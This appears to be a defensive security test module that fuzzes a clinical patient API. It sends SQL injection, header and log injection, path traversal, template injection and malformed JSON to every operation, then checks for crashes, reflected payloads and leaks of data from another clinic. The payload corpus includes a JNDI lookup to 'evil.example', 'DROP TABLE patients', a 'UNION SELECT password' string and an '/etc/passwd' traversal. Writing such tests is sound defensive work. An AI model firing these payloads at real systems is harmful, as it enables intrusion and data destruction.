"""Attacks by what is written into fields: every text of every operation in the OpenAPI document."""

import json
from collections.abc import Iterator
from copy import deepcopy
from dataclasses import dataclass, field
from typing import Any
from urllib.parse import quote

from fastapi.dependencies.models import Dependant
from fastapi.routing import APIRoute
from sqlalchemy import func, select
from starlette.routing import BaseRoute

from api.dependencies import Permission
from api.routes.words import cursor_after
from api.security import ALLOWED, Role
from api.tables import AuditRow, PatientRow, SessionRow, UserRow
from tests.api.attacks import coming_in
from tests.api.attacks.siege import THEIRS, THINGS, Evidence, Target
from tests.api.world import FOREIGN

Json = dict[str, Any]
MARK = "zq7mark"
"""In every payload: where it comes back, or stands in a log, it is found by that."""
CORPUS = (
    f"{MARK}' OR '1'='1",
    f"{MARK}'); DROP TABLE patients; --",
    f'{MARK}" UNION SELECT password FROM users --',
    f"{MARK}\\' OR 1=1 /* %s %(x)s :x ? $1 {{0}}",
    f"{MARK}\r\nX-Injected: yes\r\n\r\n<script>1</script>",
    f"{MARK}\n2026-01-01 00:00:00 INFO a line of its own",
    f"{MARK}\0after",
    f"{MARK}\u202e\u2028\ud7ff\U0001f600\u0301",
    f"{MARK}${{jndi:ldap://evil.example/a}}{{{{7*7}}}}<%= 7*7 %>",
    f"../../../../etc/passwd%00{MARK}",
    f"%25%27%5f{MARK}%_",
    MARK + "x" * 20_000,
)
"""What breaks out of SQL, headers, log lines, paths and templates, or into what lies behind them."""
PARTS = 8
"""The operations are attacked in so many tests, each of which takes seconds."""
HOSTILE_JSON = (
    b'{"a":' * 900 + b"1" + b"}" * 900,
    b"[" * 30_000,
    b'{"birth_year":NaN}', b'{"birth_year":Infinity}', b'{"birth_year":-Infinity}', b'{"birth_year":1e999}',
    b'{"birth_year":' + b"9" * 5_000 + b"}",
    b'{"birth_year":1980,"birth_year":"x"}',
    b'{"__proto__":{"admin":true},"constructor":{}}',
    b'{"pseudonym":"\\ud800"}', b'{"pseudonym":"\\u0000"}',
    b"\xef\xbb\xbf{}", b"\xff\xfe{\x00}\x00", b"", b"null", b"[]", b'"x"', b"{}{}", b"\x00",
)  # fmt: skip
"""Bodies on which parsers disagree or die."""


@dataclass(frozen=True, slots=True)
class Operation:
    """A thing that can be asked for, by somebody who may, with an example of all that it takes."""

    method: str
    path: str
    role: Role
    query: tuple[str, ...]
    headers: tuple[str, ...]
    body: Json | None = field(hash=False)

    def address(self, **other: str) -> str:
        """Its address, of things that are there except where others are given."""
        found = self.path
        for name in self.parameters:
            found = found.replace(f"{{{name}}}", quote(other.get(name, THINGS.get(name, "x-1")), safe=""))
        return found

    @property
    def parameters(self) -> list[str]:
        """What its path names."""
        return [each.split("}")[0] for each in self.path.split("{")[1:]]


def _permissions(dependant: Dependant) -> Iterator[Permission]:
    if isinstance(dependant.call, Permission):
        yield dependant.call
    for each in dependant.dependencies:
        yield from _permissions(each)


def roles_of(routes: list[BaseRoute], prefix: str = "") -> Iterator[tuple[str, frozenset[Role]]]:
    """Who may ask for what, by method and path."""
    for route in routes:
        if (included := getattr(route, "original_router", None)) is not None:
            yield from roles_of(included.routes, prefix + route.include_context.prefix)  # type: ignore[attr-defined]
        elif isinstance(route, APIRoute):
            may = next((ALLOWED[each.action] for each in _permissions(route.dependant)), frozenset(Role))
            for method in route.methods or ():
                yield f"{method} {prefix}{route.path}", may


def operations(target: Target) -> list[Operation]:
    """All that is described."""
    roles = dict(roles_of(target.app.routes))
    found = []
    for path, described in target.app.openapi()["paths"].items():
        for method, operation in described.items():
            content = operation.get("requestBody", {}).get("content", {}).get("application/json")
            example = None
            if content is not None:
                example = content["example"] if "example" in content else (
                    next(iter(content["examples"].values()))["value"])  # fmt: skip
            given = operation.get("parameters", ())
            named = {
                place: tuple(each["name"] for each in given if each["in"] == place) for place in ("query", "header")
            }
            name = f"{method.upper()} {path}"
            # a clinician first, so that payloads get as deep as they can
            role = min(roles[name], key=[Role.CLINICIAN, *Role].index)
            found.append(Operation(method.upper(), path, role, named["query"], named["header"], example))
    return found


def leaves(body: object, path: tuple[str | int, ...] = ()) -> Iterator[tuple[str | int, ...]]:
    """Where in a body something stands that is no container."""
    if isinstance(body, dict):
        for name, value in body.items():
            yield from leaves(value, (*path, name))
    elif isinstance(body, list) and body:
        yield from leaves(body[0], (*path, 0))
    else:
        yield path


def replaced(body: Json, path: tuple[str | int, ...], payload: object) -> Json:
    """A body with something else at one place."""
    changed: Any = deepcopy(body)
    inner = changed
    for step in path[:-1]:
        inner = inner[step]
    inner[path[-1]] = payload
    return changed  # type: ignore[no-any-return]


def requests(operation: Operation, payload: str) -> Iterator[tuple[str, Json]]:
    """An operation's requests with a payload in one place each: the place, and what to send."""
    for name in operation.parameters:
        yield f"path {name}", {"url": operation.address(**{name: payload})}
    for name in operation.query:
        yield f"query {name}", {"url": operation.address(), "params": {name: payload}}
    # a client would refuse to send what no header may hold: what is left of it is sent
    plain = payload.encode("ascii", "ignore").translate(None, bytes(range(32)))
    for name in {*operation.headers, "Idempotency-Key", "If-None-Match", "Accept-Language", "User-Agent"}:
        yield f"header {name}", {"url": operation.address(), "headers": {name: plain.decode()[:8000]}}
    if operation.body is not None:
        for path in leaves(operation.body):
            if path:
                yield f"body {path}", {"url": operation.address(), "json": replaced(operation.body, path, payload)}
        yield "body name", {"url": operation.address(), "json": {**operation.body, payload: payload}}


def fed(target: Target, operation: Operation, number: int, headers: Json) -> Evidence:
    """One operation with the whole corpus: each place gets another part of it, so that all operations see all of it."""
    found: Evidence = []
    for turn in range(3):
        # another payload in each place, and in each operation
        for place, payload in enumerate(CORPUS[(number + turn + 5 * step) % len(CORPUS)] for step in range(3)):
            for where, sent in requests(operation, payload):
                if (place + turn + len(where)) % 3:
                    continue
                given = {**headers, **sent.pop("headers", {})}
                answer = target.client.request(operation.method, headers=given, **sent)
                what = f"{operation.method} {operation.path} {where} {payload[:30]!r}: {answer.status_code}"
                found += [what] if answer.status_code >= 500 else []
                found += [f"{what}, a header of ours"] if "x-injected" in answer.headers else []
                back = MARK in answer.text and answer.status_code >= 400
                found += [f"{what}, the error repeats it"] if back else []
                told = FOREIGN in answer.text and operation.role is not Role.ADMINISTRATOR
                found += [f"{what}, of another clinic"] if told and payload[:20] not in answer.text else []
                headers_said = " ".join(f"{name}: {value}" for name, value in answer.headers.items())
                found += [f"{what}, in a header"] if MARK in headers_said else []
    return found


def left(target: Target) -> Evidence:
    """What is missing, or is where it should not be, after an attack."""
    found = [f"in the log: {line[:80]!r}" for line in target.ear.lines if MARK in line]
    with target.database.reading() as db:
        counted = {each.__name__: select(func.count()).select_from(each) for each in (UserRow, PatientRow, SessionRow)}
        found += [f"{name} is empty" for name, query in counted.items() if not db.execute(query).scalar_one()]
        rows = db.execute(select(AuditRow)).scalars().all()
        found += [f"in the audit: {row!r}" for row in rows if MARK in repr(row)]
    return found


def fields_of(target: Target, part: int) -> Evidence:
    """Every text of every operation of one of the PARTS."""
    target.unthrottle()
    found: Evidence = []
    with coming_in.quick(target):
        for number, operation in enumerate(operations(target)[part::PARTS]):
            # a login of its own: some of them end it
            found += fed(target, operation, number, target.headers(operation.role))
    return found + left(target)


def few_fields(target: Target) -> Evidence:
    """The same at the first part: enough where every one of them shows it."""
    return fields_of(target, 0)


def searching(target: Target) -> Evidence:
    """Searches that would find everybody, of all clinics, if their text became SQL or a pattern."""
    found: Evidence = []
    headers = target.headers()
    for text in ("' OR '1'='1", "' OR 1=1 --", "%", "_", "P%", "\\", "' UNION SELECT * FROM patients --", "\\%", "[P]"):
        answer = target.client.get("/api/v1/patients", params={"pseudonym": text}, headers=headers)
        found += (
            [f"pseudonym {text!r}: {answer.text[:80]}"] if answer.status_code >= 500 or FOREIGN in answer.text else []
        )
        # these letters are in no pseudonym: whoever is found is found by a pattern
        if answer.status_code == 200 and answer.json()["items"]:
            found.append(f"pseudonym {text!r} finds {len(answer.json()['items'])}")
        for wanted in ({"name": text}, {"family": text}, {"identifier": {"system": "urn:x", "value": text}}):
            answer = target.client.post("/api/v1/patients/search", json=wanted, headers=headers)
            if answer.status_code >= 500 or (answer.status_code == 200 and answer.json()["items"]):
                found.append(f"search {wanted}")
    return found


def hostile_bodies(target: Target) -> Evidence:
    """JSON that parsers disagree on, at everything that takes a body."""
    target.unthrottle()
    found: Evidence = []
    with coming_in.quick(target):
        for operation in operations(target):
            if operation.body is None:
                continue
            headers = {**target.headers(operation.role), "content-type": "application/json"}
            for body in HOSTILE_JSON:
                answer = target.client.request(operation.method, operation.address(), content=body, headers=headers)
                what = f"{operation.method} {operation.path} {body[:20]!r}: {answer.status_code}"
                found += [what] if answer.status_code >= 500 else []
                if answer.status_code < 300 and any(
                    each in body for each in (b"NaN", b"Infinity", b"1e999", b"__proto")
                ):
                    found.append(f"{what} is taken")
    return found


def impossible_numbers(target: Target) -> Evidence:
    """NaN and infinities where numbers stand."""
    found: Evidence = []
    for operation in operations(target):
        if operation.body is None:
            continue
        headers = {**target.headers(operation.role), "content-type": "application/json"}
        for path in leaves(operation.body):
            inner: Any = operation.body
            for step in path:
                inner = inner[step]
            if isinstance(inner, bool) or not isinstance(inner, int | float):
                continue
            for number in ("NaN", "Infinity", "-Infinity", "1e400", "-1e308", "1" + "0" * 400):
                body = json.dumps(replaced(operation.body, path, "@@")).replace('"@@"', number)
                answer = target.client.request(operation.method, operation.address(), content=body, headers=headers)
                if answer.status_code >= 500 or (answer.status_code < 300 and number != "-1e308"):
                    found.append(f"{operation.method} {operation.path} {path} {number}: {answer.status_code}")
    return found


def tampered_cursors(target: Target) -> Evidence:
    """Places in lists that were made up, of other lists and other clinics."""
    found: Evidence = []
    made_up: tuple[Any, ...] = ((2**70, "x"), (0, "' OR 1=1 --"), (-(2**63), THEIRS["patient"]), ("x", "y"), (0,),
                                (0, "a", "b"), (2**63 - 1, "zzzz"), ([], {}), (True, None), (1.5, "a"))  # fmt: skip
    places = [cursor_after(*each) for each in made_up]
    for operation in operations(target):
        if "cursor" not in operation.query:
            continue
        headers = target.headers(operation.role)
        for place in (*places, "e30", "W10", "%00", "A" * 400, "!!", places[0][:-3]):
            answer = target.client.get(operation.address(), params={"cursor": place}, headers=headers)
            if answer.status_code >= 500 or (FOREIGN in answer.text and answer.status_code == 200):
                found.append(f"{operation.path} {place[:20]}: {answer.status_code} {answer.text[:60]}")
    return found


ATTACKS = (searching, hostile_bodies, impossible_numbers, tampered_cursors)
